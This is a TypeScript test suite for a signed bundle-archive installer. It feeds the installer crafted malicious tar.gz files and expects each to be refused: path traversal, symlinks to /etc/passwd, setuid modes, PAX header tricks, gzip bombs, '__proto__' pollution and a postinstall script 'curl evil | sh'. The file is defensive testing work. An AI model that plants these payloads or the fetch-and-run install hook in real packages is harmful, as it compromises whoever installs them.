import assert from 'node:assert/strict';
import { randomBytes, type KeyObject } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { signed, type ArchiveParts } from '../support/archives.js';
import { temporaryFolder } from '../support/temporary.js';
import {
  BUDGET,
  BundleStore,
  checkContent,
  extractArchive,
  FreshFolder,
  sha256,
  TrustStore,
  verifyArchive,
  withArchive,
  type ArchiveManifest,
} from './built.js';
import { rawGzip, rawHeader, rawTar, soundFiles, spoilt, type RawEntry, type Spoil } from './hostile.js';
import { acme, filesOf, releaseKey } from './support.js';

type Case = [what: string, spoil: Spoil | ((key: KeyObject) => Buffer), code: string, sentence: RegExp];

const INVALID = 'ARCHIVE_INVALID';
const LARGE = 'ARCHIVE_TOO_LARGE';
const INCOMPLETE = 'ARCHIVE_INCOMPLETE';
/** Another entry behind the files. */
const behind = (...more: RawEntry[]): Spoil => ({ tar: (entries) => [...entries, ...more] });
/** Another entry in the place of the first file. */
const instead = (entry: Partial<RawEntry>): Spoil => ({
  tar: ([first, ...rest]) => [{ ...first!, ...entry }, ...rest],
});
/** The first file in another form, with the manifest made to list what the tar then has. */
const listing = (path: string): Spoil => ({
  tar: ([first, ...rest]) => [{ ...first!, name: `package/${path}` }, ...rest],
  manifest: (manifest) => ({ ...manifest, files: [{ ...manifest.files[0]!, path }, ...manifest.files.slice(1)] }),
});
const packageJson = (text: string): Spoil => ({ files: soundFiles({ 'package.json': text }) });
const sbom = (change: (sbom: Record<string, unknown>) => unknown): Spoil => ({
  files: soundFiles().map((file) =>
    file.path === 'sbom.cdx.json'
      ? { ...file, content: Buffer.from(JSON.stringify(change(JSON.parse(file.content.toString())))) }
      : file,
  ),
});
const list = (change: (manifest: ArchiveManifest) => unknown): Spoil => ({ manifest: change });
const base256 = (...bytes: number[]): Buffer => Buffer.concat([Buffer.alloc(12 - bytes.length), Buffer.from(bytes)]);
const pax = (...records: string[]): string =>
  records.map((record) => `${record.length + String(record.length + 3).length + 2} ${record}\n`).join('');

const CASES: Case[] = [
  // What is no archive.
  ['nothing', { file: () => Buffer.alloc(0) }, INCOMPLETE, /cut off/],
  ['text', { file: () => Buffer.from('<html>Sign in to the hotel</html>') }, INVALID, /is not a gzipped tar/],
  ['a zip', { file: () => Buffer.from('PK\x03\x04 and more than ten bytes') }, INVALID, /is not a gzipped tar/],
  ['a gzip of text', { file: () => rawGzip(Buffer.from('hello')) }, INCOMPLETE, /ends before the end of its tar/],
  ['a gzip in a gzip', { file: (archive) => rawGzip(archive) }, INVALID, /does not begin with rackwatt\.manifest/],
  ['an empty tar', { file: () => rawGzip(Buffer.alloc(1024)) }, INVALID, /does not begin with/],
  ['an archive of npm', { file: () => gzipSync(rawTar([{ name: 'package/package.json' }])) }, INVALID, /gzip header/],

  // Gzip.
  [
    'a gzip with a name',
    { file: (archive) => Buffer.concat([archive.subarray(0, 3), Buffer.from([8]), archive.subarray(4)]) },
    INVALID,
    /gzip header with more/,
  ],
  [
    'bytes behind the gzip',
    { file: (archive) => Buffer.concat([archive, Buffer.from('garbage')]) },
    INVALID,
    /has 7 bytes behind its end/,
  ],
  [
    'zeros behind the gzip',
    { file: (archive) => Buffer.concat([archive, Buffer.alloc(512)]) },
    INVALID,
    /512 bytes behind/,
  ],
  [
    'a second gzip',
    { gzip: (tar) => Buffer.concat([rawGzip(tar), rawGzip(rawTar([{ name: 'package/late.js', content: 'x' }]))]) },
    INVALID,
    /second gzip behind its tar/,
  ],
  [
    'a second gzip with nothing in it',
    { gzip: (tar) => Buffer.concat([rawGzip(tar), rawGzip(Buffer.alloc(0))]) },
    INVALID,
    /second gzip/,
  ],
  [
    'a tar in two gzips',
    { gzip: (tar) => Buffer.concat([rawGzip(tar.subarray(0, 512)), rawGzip(tar.subarray(512))]) },
    INCOMPLETE,
    /ends before|ends within/,
  ],
  ['a gzip whose check sum is wrong', { gzip: (tar) => rawGzip(tar, { sum: 7 }) }, INVALID, /check sum is wrong/],
  ['a gzip whose length is wrong', { gzip: (tar) => rawGzip(tar, { length: 7 }) }, INVALID, /check sum is wrong/],
  ['a gzip cut off, and signed so', { gzip: (tar) => rawGzip(tar).subarray(0, -30) }, INCOMPLETE, /cut off/],
  [
    'an archive cut off',
    { file: (archive) => archive.subarray(0, -30) },
    INCOMPLETE,
    /cut off: it has \d+ of the \d+ bytes/,
  ],

  // Ends of the tar.
  ['no trailer', { tar: (entries) => rawTar(entries, 0) }, INCOMPLETE, /ends before the end of its tar/],
  ['half a trailer', { tar: (entries) => rawTar(entries, 512) }, INCOMPLETE, /ends before/],
  [
    'a third block of zeros',
    { tar: (entries) => rawTar(entries, 1536) },
    INVALID,
    /something behind the end of its tar/,
  ],
  [
    'files behind the trailer',
    { tar: (entries) => Buffer.concat([rawTar(entries), rawTar([{ name: 'package/late.js', content: 'x' }])]) },
    INVALID,
    /something behind the end of its tar/,
  ],
  [
    'a block that is no header',
    { tar: (entries) => Buffer.concat([rawTar(entries, 0), Buffer.alloc(512, 'x'), Buffer.alloc(1024)]) },
    INVALID,
    /something that is no file/,
  ],
  ['a header whose check sum is wrong', instead({ broken: true }), INVALID, /something that is no file where/],
  [
    'an end in the middle',
    { tar: ([first, ...rest]) => Buffer.concat([rawTar([first!]), rawTar(rest)]) },
    INVALID,
    /lacks "package\.json"/,
  ],

  // Paths.
  ['traversal', behind({ name: 'package/../evil.js' }), INVALID, /leads elsewhere/],
  ['traversal in the place of a file', instead({ name: 'package/dist/../../evil.js' }), INVALID, /leads elsewhere/],
  [
    'traversal that is listed',
    listing('../../evil.js'),
    INVALID,
    /lists "\.\.\/\.\.\/evil\.js", a path that leads elsewhere/,
  ],
  ['a dot in a path', listing('./dist/x.js'), INVALID, /leads elsewhere/],
  ['a doubled slash', listing('dist//x.js'), INVALID, /leads elsewhere/],
  ['an absolute path', instead({ name: '/etc/cron.d/evil' }), INVALID, /not below package/],
  ['an absolute path that is listed', listing('/etc/cron.d/evil'), INVALID, /an absolute path/],
  ['another top folder', instead({ name: 'evil/x.js' }), INVALID, /not below package/],
  ['a path of 300 characters', listing(`${'d/'.repeat(3)}${'x'.repeat(300)}`), INVALID, /more than 200 characters/],
  ['a folder name of 101 characters', listing(`${'d'.repeat(101)}/x`), INVALID, /characters other than/],
  ['5,000 folders deep', listing(`${'d/'.repeat(5000)}x`), INVALID, /more than 200 characters/],
  ['13 folders deep', listing(`${'d/'.repeat(12)}x.js`), INVALID, /folders deep/],
  [
    'a NUL in a name',
    instead({ name: 'package/dist/index.js\0.png' }),
    INVALID,
    /with more than "rackwatt bundle pack" writes/,
  ],
  ['a NUL in a name that is listed', listing('dist/index.js\0.png'), INVALID, /characters other than/],
  ['a line break in a name', listing('dist/x\n.js'), INVALID, /characters other than/],
  ['a backslash', listing('dist\\..\\..\\evil.js'), INVALID, /characters other than/],
  ['a drive', listing('C:evil.js'), INVALID, /characters other than/],
  ['a stream of NTFS', listing('dist/x.js:hidden'), INVALID, /characters other than/],
  ['a device of Windows', listing('dist/aux.js'), INVALID, /some systems cannot hold/],
  ['another device of Windows', listing('COM1'), INVALID, /some systems cannot hold/],
  ['a dot at the end', listing('dist/x.'), INVALID, /some systems cannot hold/],
  ['a blank at the end', listing('dist/x '), INVALID, /characters other than/],
  ['a name that turns the text around', listing('dist/\u202Egnp.js'), INVALID, /characters other than/],
  [
    'a name that is no UTF-8',
    behind({ name: Buffer.from('7061636b6167652fff2e6a73', 'hex') }),
    INVALID,
    /characters other than/,
  ],
  [
    'names that differ by composition alone',
    { files: soundFiles({ 'e\u0301.js': '', '\u00e9.js': '' }) },
    INVALID,
    /characters other than/,
  ],
  [
    'names that differ by case alone',
    { files: soundFiles({ 'dist/INDEX.js': '' }) },
    INVALID,
    /"dist\/INDEX\.js", which is there twice/,
  ],
  ['a file in a file', { files: soundFiles({ 'dist/index.js/x.js': '' }) }, INVALID, /which lies in a file/],
  ['a file that is a folder', { files: soundFiles({ dist: '' }) }, INVALID, /a file and a folder/],
  [
    'its own manifest among the files',
    { files: soundFiles({ 'rackwatt.manifest.json': '{}' }) },
    INVALID,
    /"rackwatt\.manifest\.json", which is there twice/,
  ],

  // Entries that are no files.
  [
    'a symbolic link',
    instead({ type: '2', link: '/etc/passwd', content: '' }),
    INVALID,
    /a symbolic link; only plain files/,
  ],
  [
    'a symbolic link behind the files',
    behind({ name: 'package/x', type: '2', link: '../../../etc' }),
    INVALID,
    /a symbolic link; only/,
  ],
  [
    'a chain of symbolic links',
    {
      tar: (entries) => [
        { name: 'package/a', type: '2', link: '.' },
        { name: 'package/a/b', type: '2', link: '..' },
        { name: 'package/a/b/evil.js', content: 'x' },
        ...entries,
      ],
    },
    INVALID,
    /"package\/a", a symbolic link/,
  ],
  ['a hard link', instead({ type: '1', link: '/etc/passwd', content: '' }), INVALID, /a hard link; only plain files/],
  [
    'a hard link onto its own file',
    behind({ name: 'package/x', type: '1', link: 'package/dist/index.js' }),
    INVALID,
    /a hard link; only/,
  ],
  ['a character device', behind({ name: 'package/null', type: '3' }), INVALID, /a character device; only/],
  ['a block device', behind({ name: 'package/sda', type: '4' }), INVALID, /a block device; only/],
  ['a pipe', behind({ name: 'package/pipe', type: '6' }), INVALID, /a pipe; only plain files/],
  ['a folder', behind({ name: 'package/dist/', type: '5' }), INVALID, /a folder; only plain files/],
  ['a folder in the place of a file', instead({ type: '5', content: '' }), INVALID, /a folder; only plain files/],
  ['a sparse file', instead({ type: 'S' }), INVALID, /a sparse file; only plain files/],
  ['a contiguous file', instead({ type: '7' }), INVALID, /a contiguous file; only/],
  [
    'a volume label',
    { tar: (entries) => [{ name: 'label', type: 'V' }, ...entries] },
    INVALID,
    /a volume label \(GNU\)/,
  ],
  [
    'a dump of a folder',
    { tar: (entries) => [{ name: 'package/', type: 'D', content: 'Yx\0\0' }, ...entries] },
    INVALID,
    /a list of a folder/,
  ],
  ['a vendor’s type', instead({ type: 'Q' }), INVALID, /an entry of the type "Q"/],
  ['the type of old tars', instead({ type: '\0' }), INVALID, /with more than "rackwatt bundle pack" writes/],

  // Headers that change the next one.
  [
    'an extended header with another path',
    { tar: (entries) => [{ name: 'PaxHeader', type: 'x', content: pax('path=package/../../evil.js') }, ...entries] },
    INVALID,
    /"PaxHeader", an extended header/,
  ],
  [
    'an extended header with another size',
    { tar: (entries) => [{ name: 'PaxHeader', type: 'x', content: pax('size=1') }, ...entries] },
    INVALID,
    /an extended header/,
  ],
  [
    'an extended header with attributes',
    {
      tar: (entries) => [
        { name: 'PaxHeader', type: 'x', content: pax('SCHILY.xattr.security.capability=\x01') },
        ...entries,
      ],
    },
    INVALID,
    /an extended header/,
  ],
  [
    'an extended header of 8 MiB',
    { tar: (entries) => [{ name: 'PaxHeader', type: 'x', content: Buffer.alloc(8 << 20, 'a') }, ...entries] },
    INVALID,
    /an extended header/,
  ],
  [
    'a global extended header',
    { tar: (entries) => [{ name: 'PaxHeader', type: 'g', content: pax('path=/etc/passwd') }, ...entries] },
    INVALID,
    /a global extended header/,
  ],
  [
    'an extended header of Solaris',
    { tar: (entries) => [{ name: 'PaxHeader', type: 'X', content: pax('path=x') }, ...entries] },
    INVALID,
    /extended header \(Solaris\)/,
  ],
  [
    'a long name of GNU tar',
    { tar: (entries) => [{ name: '././@LongLink', type: 'L', content: `package/${'a'.repeat(300)}\0` }, ...entries] },
    INVALID,
    /a long name \(GNU\)/,
  ],
  [
    'a long link name of GNU tar',
    { tar: (entries) => [{ name: '././@LongLink', type: 'K', content: '/etc/passwd\0' }, ...entries] },
    INVALID,
    /a long link name \(GNU\)/,
  ],

  // Sizes and modes.
  ['a size that is a lie, too long', instead({ size: 1 << 20 }), INVALID, /with a size of 1048576, not 27/],
  ['a size that is a lie, too short', instead({ size: 3 }), INVALID, /with a size of 3, not 27/],
  ['a size below zero', instead({ size: Buffer.from('-0000000001\0') }), INVALID, /with a size of "-0000000001"/],
  ['a size below zero in base 256', instead({ size: Buffer.alloc(12, 0xff) }), INVALID, /with a size of/],
  [
    'a size of 2^63 in base 256',
    instead({ size: Buffer.concat([Buffer.from([0x80]), base256(0x80, 0, 0, 0, 0, 0, 0, 0).subarray(1)]) }),
    INVALID,
    /with a size of/,
  ],
  [
    'the right size in base 256',
    instead({ size: Buffer.concat([Buffer.from([0x80]), base256(27).subarray(1)]) }),
    INVALID,
    /with a size of/,
  ],
  ['a huge size', instead({ size: 0o77777777777 }), INVALID, /with a size of 8589934591/],
  [
    'a size that is no number',
    instead({ size: Buffer.from('hello world\0') }),
    INVALID,
    /with a size of "hello world"/,
  ],
  ['the mode of a setuid program', instead({ mode: '0004755' }), INVALID, /with the mode "0004755", not 0644/],
  ['a mode that lets everybody write', instead({ mode: '0000666' }), INVALID, /with the mode "0000666"/],
  ['a program where a file is listed', instead({ mode: '0000755' }), INVALID, /with the mode "0000755"/],
  [
    'a setuid program that is listed',
    list((manifest) => ({ ...manifest, files: manifest.files.map((file) => ({ ...file, mode: '4755' })) })),
    INVALID,
    /"files" is not a list/,
  ],
  [
    'something behind the end of a file',
    {
      tar: (entries) => {
        const tar = rawTar(entries);
        tar[512 + 30] = 1;
        return tar;
      },
    },
    INVALID,
    /something behind the end of dist\/index\.js/,
  ],

  // What the manifest does not say.
  [
    'a file twice',
    behind({ name: 'package/dist/index.js', content: 'evil' }),
    INVALID,
    /"package\/dist\/index\.js" twice/,
  ],
  [
    'a file twice in a row',
    { tar: ([first, ...rest]) => [first!, first!, ...rest] },
    INVALID,
    /"dist\/index\.js" twice/,
  ],
  [
    'a file that is not listed',
    behind({ name: 'package/dist/extra.js', content: 'evil' }),
    INVALID,
    /"package\/dist\/extra\.js", which its manifest does not list/,
  ],
  [
    '50,000 entries that are not listed',
    {
      tar: (entries) =>
        Buffer.concat([rawTar(entries, 0), Buffer.alloc(50_000 * 512, rawHeader({ name: 'package/f' }))]),
    },
    INVALID,
    /which its manifest does not list/,
  ],
  [
    'a file that is missing',
    { tar: (entries) => entries.slice(0, -1) },
    INVALID,
    /lacks "sbom\.cdx\.json", which its manifest lists/,
  ],
  [
    'files in another order',
    { tar: (entries) => [...entries].reverse() },
    INVALID,
    /lacks "dist\/index\.js" where its manifest lists it/,
  ],
  [
    'an altered file',
    instead({ content: 'exports.version = "6.6.6";\n' }),
    INVALID,
    /another dist\/index\.js than its manifest lists; it was altered/,
  ],
  [
    'the manifest twice in front',
    { front: ([first]) => [first!, first!] },
    INVALID,
    /something behind the end of its tar/,
  ],
  [
    'a file before the manifest',
    { front: ([first]) => [{ name: 'package/dist/index.js', content: 'x' }, first!] },
    INVALID,
    /does not begin with/,
  ],
  [
    'a file behind the manifest',
    { front: ([first]) => [first!, { name: 'package/dist/evil.js', content: 'x' }] },
    INVALID,
    /something behind the end of its tar/,
  ],
  [
    'a manifest that is a link',
    { front: ([first]) => [{ ...first!, type: '2', link: '/etc/passwd' }] },
    INVALID,
    /does not begin with/,
  ],
  [
    'no manifest',
    { file: () => signed(acme()).subarray(signed(acme()).indexOf(acme().content)) },
    INVALID,
    /does not begin with/,
  ],

  // Size.
  [
    'a bomb in the place of the manifest',
    { file: () => rawGzip(Buffer.alloc(64 << 20)) },
    INVALID,
    /does not begin with/,
  ],
  [
    'a bomb as its manifest',
    { envelopeText: () => Buffer.alloc(BUDGET.manifest + 1, ' ') },
    LARGE,
    /manifest of more than 4194304 bytes/,
  ],
  [
    'a bomb behind its files',
    { tar: (entries) => Buffer.concat([rawTar(entries), Buffer.alloc(64 << 20)]) },
    INVALID,
    /something behind the end of its tar/,
  ],
  ['a bomb in the place of a file', { tar: () => Buffer.alloc(64 << 20) }, INVALID, /lacks "dist\/index\.js"/],
  [
    'a bomb that is listed',
    list((manifest) => ({ ...manifest, archive: { ...manifest.archive, unpacked: BUDGET.unpacked * 3 } })),
    LARGE,
    /unpacks to more than/,
  ],
  [
    'a file of 100 MB that is listed',
    list((manifest) => ({
      ...manifest,
      files: manifest.files.map((file, index) => (index === 0 ? { ...file, size: 100 << 20 } : file)),
    })),
    LARGE,
    /lists "[^"]+" with more than 67108864 bytes/,
  ],
  [
    'more bytes than any archive may have',
    { file: (archive) => Buffer.concat([archive, Buffer.alloc(BUDGET.archive + BUDGET.manifest)]) },
    LARGE,
    /has more than 67108864 bytes/,
  ],
  [
    'too many files',
    list((manifest) => ({
      ...manifest,
      files: Array.from({ length: BUDGET.files + 1 }, (_, index) => ({ ...manifest.files[0]!, path: `f${index}` })),
    })),
    LARGE,
    /more than 5000 files/,
  ],
  [
    'a size that the files do not add up to',
    list((manifest) => ({ ...manifest, archive: { ...manifest.archive, unpacked: 7 } })),
    INVALID,
    /do not add up/,
  ],
  [
    'another number of files',
    list((manifest) => ({ ...manifest, archive: { ...manifest.archive, entries: 1 } })),
    INVALID,
    /do not add up/,
  ],
  [
    'a size that is no number',
    list((manifest) => ({ ...manifest, files: manifest.files.map((file) => ({ ...file, size: 1e300 })) })),
    INVALID,
    /"files" is not a list/,
  ],
  [
    'a size of 2^53',
    list((manifest) => ({ ...manifest, archive: { ...manifest.archive, length: 2 ** 53 } })),
    INVALID,
    /"archive" lacks/,
  ],

  // Digests.
  [
    'a digest of another archive',
    list((manifest) => ({ ...manifest, archive: { ...manifest.archive, sha256: '0'.repeat(64) } })),
    INVALID,
    /does not have the digest/,
  ],
  [
    'a flipped bit in its content',
    {
      file: (archive) => {
        archive[archive.length - 100]! ^= 4;
        return archive;
      },
    },
    INVALID,
    /does not have the digest/,
  ],
  [
    'a length too short',
    list((manifest) => ({ ...manifest, archive: { ...manifest.archive, length: 10 } })),
    INVALID,
    /bytes behind its end/,
  ],

  // The envelope.
  ['a manifest that is no JSON', { envelopeText: () => '{' }, INVALID, /is not JSON/],
  ['a manifest that is no UTF-8', { envelopeText: () => Buffer.from([0x22, 0xff, 0x22]) }, INVALID, /is not UTF-8/],
  ['a manifest that is null', { envelopeText: () => 'null' }, INVALID, /type "undefined"/],
  ['a deep manifest', { envelopeText: () => '['.repeat(100_000) }, INVALID, /nested more than 64 deep/],
  ['quotes without end', { envelopeText: () => `"${'\\"'.repeat(500_000)}` }, INVALID, /is not JSON/],
  ['a key twice', { envelopeText: (text) => text.replace('{', '{"payload":"a",') }, INVALID, /"payload" twice/],
  [
    'a key twice, spelt differently',
    { envelopeText: (text) => text.replace('{', '{"p\\u0061yload":"a",') },
    INVALID,
    /"payload" twice/,
  ],
  [
    '__proto__ in the envelope',
    { envelopeText: (text) => text.replace('{', '{"__proto__":{"payload":"a"},') },
    INVALID,
    /"__proto__"/,
  ],
  [
    'another type of payload',
    { envelope: (envelope) => ({ ...envelope, payloadType: 'application/vnd.in-toto+json' }) },
    INVALID,
    /of the type "application\/vnd.in-toto\+json"/,
  ],
  [
    'a trust root in the place of the manifest',
    { envelope: (envelope) => ({ ...envelope, payloadType: 'application/vnd.rackwatt.trust+json' }) },
    INVALID,
    /of the type/,
  ],
  [
    'a payload that is no base64',
    { envelope: (envelope) => ({ ...envelope, payload: '%%' }) },
    INVALID,
    /no signed document/,
  ],
  [
    'signatures that are none',
    { envelope: (envelope) => ({ ...envelope, signatures: [null] }) },
    INVALID,
    /signature that is none/,
  ],
  [
    '17 signatures',
    { envelope: (envelope) => ({ ...envelope, signatures: Array.from({ length: 17 }, () => null) }) },
    INVALID,
    /more than 16 signatures/,
  ],
  [
    'one signature twice',
    { envelope: (envelope) => ({ ...envelope, signatures: [...envelope.signatures, ...envelope.signatures] }) },
    INVALID,
    /two signatures of one key/,
  ],
  ['no signature', { keys: [] }, 'SIGNATURE_MISSING', /is not signed/],
  [
    'a forged signature',
    {
      envelope: (envelope) => ({
        ...envelope,
        signatures: [{ ...envelope.signatures[0]!, sig: Buffer.alloc(64, 7).toString('base64') }],
      }),
    },
    'SIGNATURE_INVALID',
    /does not fit/,
  ],
  [
    'a flipped bit in its manifest',
    {
      envelope: (envelope) => {
        const payload = Buffer.from(envelope.payload, 'base64');
        payload[40]! ^= 1;
        return { ...envelope, payload: payload.toString('base64') };
      },
    },
    'SIGNATURE_INVALID',
    /does not fit/,
  ],

  // The signed list.
  ['a list that is no JSON', { payload: () => 'hello' }, INVALID, /its manifest is not JSON/],
  [
    'a list with __proto__',
    { payload: (text) => text.replace('{', '{"__proto__":{"isAdmin":true},') },
    INVALID,
    /"__proto__"/,
  ],
  [
    'a list of another version',
    list((manifest) => ({ ...manifest, spec: 2 })),
    INVALID,
    /not one of version 1: its "spec"/,
  ],
  [
    'a list with a file twice',
    list((manifest) => ({ ...manifest, files: [...manifest.files, manifest.files[0]] })),
    INVALID,
    /which is there twice/,
  ],
  [
    'a list with a digest that is none',
    list((manifest) => ({ ...manifest, files: manifest.files.map((file) => ({ ...file, sha256: 'x' })) })),
    INVALID,
    /"files" is not a list/,
  ],
  [
    'a list of another name',
    list((manifest) => ({ ...manifest, name: '@example/other' })),
    INVALID,
    /another component|is listed as @example\/other 1\.0\.0/,
  ],
  [
    'a name that is a path',
    list((manifest) => ({ ...manifest, name: '../../evil' })),
    INVALID,
    /"name" is none of a bundle/,
  ],
  [
    'a version that is a path',
    list((manifest) => ({ ...manifest, version: '1.0.0/../../x' })),
    INVALID,
    /"version" is no semantic version/,
  ],
  [
    'a list of another version of the bundle',
    list((manifest) => ({ ...manifest, version: '9.9.9' })),
    INVALID,
    /is listed as @example\/acme 9\.9\.9/,
  ],

  // package.json.
  [
    'no package.json',
    { files: soundFiles().filter(({ path }) => path !== 'package.json') },
    INVALID,
    /has no package.json/,
  ],
  ['a package.json that is no JSON', packageJson('{'), INVALID, /is not JSON/],
  ['a deep package.json', packageJson(`{"rackwatt":${'['.repeat(5000)}`), INVALID, /nested more than 64 deep/],
  [
    'a package.json with a name twice',
    packageJson('{"name":"@example/acme","name":"rackwatt"}'),
    INVALID,
    /"name" twice/,
  ],
  ['a package.json with __proto__', packageJson('{"__proto__":{"rackwatt":{}}}'), INVALID, /"__proto__"/],
  ['a package.json of 5 MiB', packageJson(' '.repeat(5 << 20)), INVALID, /package\.json of more than/],
  [
    'a package.json of no bundle',
    packageJson('{"name":"@example/acme","version":"1.0.0"}'),
    'BUNDLE_MANIFEST',
    /no "rackwatt" object/,
  ],
  [
    'an install script',
    packageJson('{"name":"@example/acme","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"},"rackwatt":{}}'),
    INVALID,
    /has the script "postinstall"/,
  ],
  [
    'main outside',
    packageJson('{"name":"@example/acme","version":"1.0.0","main":"../../etc/passwd","rackwatt":{}}'),
    'BUNDLE_MANIFEST',
    /inside the bundle/,
  ],
  [
    'main that is absolute',
    packageJson('{"name":"@example/acme","version":"1.0.0","main":"/etc/passwd","rackwatt":{}}'),
    'BUNDLE_MANIFEST',
    /inside the bundle/,
  ],
  [
    'main that is missing',
    packageJson('{"name":"@example/acme","version":"1.0.0","main":"./dist/none.js","rackwatt":{}}'),
    INVALID,
    /lacks ".\/dist\/none.js"/,
  ],
  [
    'a contract outside',
    packageJson(
      '{"name":"@example/acme","version":"1.0.0","exports":{"./x":"../../x.js"},"rackwatt":{"contracts":["./x"]}}',
    ),
    'BUNDLE_MANIFEST',
    /"exports" leads out of the bundle/,
  ],
  [
    'a command outside',
    packageJson('{"name":"@example/acme","version":"1.0.0","rackwatt":{"commands":{"x":"../../x.js"}}}'),
    'BUNDLE_MANIFEST',
    /inside the bundle/,
  ],

  // The bill of materials.
  ['no bill of materials', { files: filesOf('1.0.0') }, INVALID, /lists no sbom\.cdx\.json|"sbom" lacks/],
  ['a bill of materials that is no CycloneDX', sbom(() => ({})), INVALID, /is no CycloneDX/],
  [
    'a bill of materials of another bundle',
    sbom((bom) => ({ ...bom, metadata: { component: { name: 'other', version: '1.0.0' } } })),
    INVALID,
    /is about "other" "1\.0\.0"/,
  ],
  [
    'a bill of materials with nonsense in it',
    sbom((bom) => ({ ...bom, components: [null] })),
    INVALID,
    /components without name/,
  ],
  [
    'a bill of materials other than the one it names',
    list((manifest) => ({ ...manifest, sbom: { path: 'sbom.cdx.json', sha256: '0'.repeat(64) } })),
    INVALID,
    /names another sbom\.cdx\.json/,
  ],
];

for (const [what, spoil, code, sentence] of CASES) {
  test(`refuses ${what}`, async (t) => {
    const home = temporaryFolder(t);
    const { keys, key } = releaseKey(t);
    const store = new BundleStore({ folder: join(home, 'store'), trust: new TrustStore({ keys }) });
    mkdirSync(join(home, 'in'));
    const file = join(home, 'in', 'acme.tgz');
    writeFileSync(file, typeof spoil === 'function' ? spoil(key) : spoilt(key, spoil));
    const prototype = Object.getOwnPropertyNames(Object.prototype).sort();
    await assert.rejects(store.install(file, false), (error: Error & { code?: string }) => {
      assert.equal(error.name, 'RackwattError', String(error.stack));
      assert.equal(error.code, code, error.message);
      assert.match(error.message, sentence);
      assert.match(error.message, /^(?:package\.json of )?acme\.tgz/, 'names the archive');
      assert.ok(!/[\n\r\u202e]/.test(error.message) && error.message.length < 400, `is one sentence: ${error.message}`);
      return true;
    });
    const left = readdirSync(home, { recursive: true }).map(String);
    assert.deepEqual(new Set(left), new Set([...(left.includes('store') ? ['store'] : []), 'in', 'in/acme.tgz']));
    assert.deepEqual(Object.getOwnPropertyNames(Object.prototype).sort(), prototype);
    assert.equal(({} as { isAdmin?: boolean }).isAdmin, undefined);
  });
}

test('takes the sound archive that the cases spoil', async (t) => {
  const home = temporaryFolder(t);
  const { keys, key } = releaseKey(t);
  const store = new BundleStore({ folder: join(home, 'store'), trust: new TrustStore({ keys }) });
  const file = join(home, 'acme.tgz');
  writeFileSync(file, spoilt(key, {}));
  const { root, signers } = await store.install(file, false);
  assert.deepEqual(signers, ['release']);
  for (const { path, content } of soundFiles()) assert.deepEqual(readFileSync(join(root, path)), content);
});

test('takes an archive cut off anywhere for one that is not complete', async (t) => {
  const file = join(temporaryFolder(t), 'acme.tgz');
  const archive = signed(
    acme('1.0.0', { 'dist/data.bin': Buffer.from(Array.from({ length: 3000 }, (_, at) => (at * 7919) % 256)) }),
  );
  for (let length = 0; length < archive.length; length += length < 64 || length > archive.length - 64 ? 1 : 13) {
    writeFileSync(file, archive.subarray(0, length));
    await assert.rejects(verifyArchive(file), { code: 'ARCHIVE_INCOMPLETE' }, `${length} of ${archive.length} bytes`);
  }
});

test('a folder that is there already is not filled, whatever it is', async (t) => {
  const home = temporaryFolder(t);
  const file = join(home, 'acme.tgz');
  writeFileSync(file, signed(acme()));
  mkdirSync(join(home, 'outside'));
  symlinkSync(join(home, 'outside'), join(home, 'planted'));
  mkdirSync(join(home, 'there'));
  for (const into of ['planted', 'there', 'acme.tgz'])
    await assert.rejects(verifyArchive(file, { into: join(home, into) }), { code: 'STORE_WRITE' }, into);
  assert.deepEqual(readdirSync(join(home, 'outside')), []);
});

for (const [size, filler] of [
  ['small', ''],
  ['large', randomBytes(200_000).toString('hex')],
] as const)
  test(`an archive (${size}) that is swapped while it is read is the first one, or refused`, async (t) => {
    const home = temporaryFolder(t);
    const file = join(home, 'acme.tgz');
    const [good, evil] = ['1.0.0', '6.6.6'].map((version) =>
      acme('1.0.0', { 'dist/index.js': `exports.version = '${version}'; // ${filler}\n` }),
    ) as [ArchiveParts, ArchiveParts];
    const read = async (swap: () => void, into: string): Promise<void> => {
      writeFileSync(file, signed(good));
      const manifest = JSON.parse(good.envelope.payload.toString()) as ArchiveManifest;
      const folder = await FreshFolder.make(join(home, into));
      await withArchive(file, async (opened) => {
        await checkContent(opened, manifest);
        swap();
        await extractArchive(opened, manifest, { folder, keep: [] });
      });
    };
    await read(() => {
      writeFileSync(join(home, 'other'), signed(evil));
      renameSync(join(home, 'other'), file);
    }, 'renamed');
    assert.match(readFileSync(join(home, 'renamed', 'dist/index.js'), 'utf8'), /1\.0\.0/);
    const rewritten = read(() => writeFileSync(file, signed(evil)), 'rewritten');
    // A small one was read whole before.
    if (filler === '') {
      await rewritten;
      assert.match(readFileSync(join(home, 'rewritten', 'dist/index.js'), 'utf8'), /1\.0\.0/);
    } else await assert.rejects(rewritten, { name: 'RackwattError' });
  });

test('a manifest beside an archive that leads elsewhere is not followed', async (t) => {
  const home = temporaryFolder(t);
  writeFileSync(join(home, 'acme.tgz'), acme().content);
  writeFileSync(join(home, 'secret'), 'root:x:0:0');
  symlinkSync(join(home, 'secret'), join(home, 'acme.manifest.json'));
  await assert.rejects(verifyArchive(join(home, 'acme.tgz')), (error: Error) => {
    assert.match(error.message, /there is no acme\.manifest\.json beside it/);
    assert.doesNotMatch(error.message, /root/);
    return true;
  });
});

test('a bomb costs neither memory nor disk', async (t) => {
  const home = temporaryFolder(t);
  const { key } = releaseKey(t);
  // 3 GB in 3 MB, listed as large as a budget allows, then more.
  const part = Buffer.alloc(64 << 20);
  const member = rawGzip(part);
  const bombs: Spoil[] = [
    { tar: (entries) => [...entries.slice(0, -1), { ...entries.at(-1)!, content: part }] },
    { file: (archive) => Buffer.concat([archive, ...Array<Buffer>(40).fill(member)]) },
    { gzip: (tar) => Buffer.concat([rawGzip(tar), ...Array<Buffer>(40).fill(member)]) },
  ];
  for (const [index, bomb] of bombs.entries()) {
    const file = join(home, `bomb${index}.tgz`);
    writeFileSync(file, spoilt(key, bomb));
    global.gc?.();
    const before = process.memoryUsage().rss;
    await assert.rejects(verifyArchive(file, { into: join(home, 'out') }), { code: 'ARCHIVE_INVALID' });
    const grown = (process.memoryUsage().rss - before) / (1 << 20);
    assert.ok(grown < 32, `grew by ${grown} MB`);
  }
  assert.ok(!readdirSync(home).includes('out'));
});

test('a large bundle is unpacked without being held in memory', async (t) => {
  const home = temporaryFolder(t);
  const file = join(home, 'large.tgz');
  const data = Object.fromEntries([1, 2, 3, 4].map((part) => [`dist/data-${part}.bin`, Buffer.alloc(50 << 20)]));
